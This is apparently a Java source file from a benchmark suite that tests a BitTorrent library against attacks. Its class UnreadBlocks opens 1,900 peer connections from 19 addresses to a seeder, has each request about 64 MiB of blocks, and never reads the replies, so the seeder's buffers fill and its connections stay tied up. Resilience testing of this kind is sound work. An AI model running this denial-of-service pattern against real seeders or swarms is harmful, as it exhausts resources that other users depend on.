package org.spillway.benchmarks.attack;

import java.io.IOException;
import java.nio.ByteBuffer;
import org.spillway.torrent.InfoDictionary;
import org.spillway.torrent.peer.Interested;
import org.spillway.torrent.peer.Request;

/** 1,900 peers of 19 addresses ask for 64 MiB each and read nothing. */
final class UnreadBlocks implements Attack {
  private static final int PEERS = 1_900;
  private static final int ADDRESSES = 19;
  private static final int REQUESTS = 512;
  private static final int BLOCK = 128 * 1024;
  private static final int RECEIVE_BUFFER = 4096;

  private final Target target;
  private final InfoDictionary info;
  private final Sockets sockets = new Sockets();

  UnreadBlocks(Target target, InfoDictionary info) {
    this.target = target;
    this.info = info;
  }

  @Override
  public void begin() throws IOException {
    for (int i = 0; i < PEERS; i++) {
      var channel = sockets.open(target.seederAddress(), 2 + i % ADDRESSES, RECEIVE_BUFFER);
      Sockets.send(channel, messages(i));
    }
  }

  private ByteBuffer messages(int peer) {
    var messages = ByteBuffer.allocate(32 * 1024);
    Peers.handshake(info, peer).writeTo(messages);
    new Interested().writeTo(messages);
    for (int i = 0; i < REQUESTS; i++) {
      new Request((7 * i + peer) % (info.pieceCount() - 1), 0, BLOCK).writeTo(messages);
    }
    return messages.flip();
  }

  @Override
  public void goOn() {
    // The connections only stay open.
  }

  @Override
  public void close() throws IOException {
    sockets.close();
  }
}
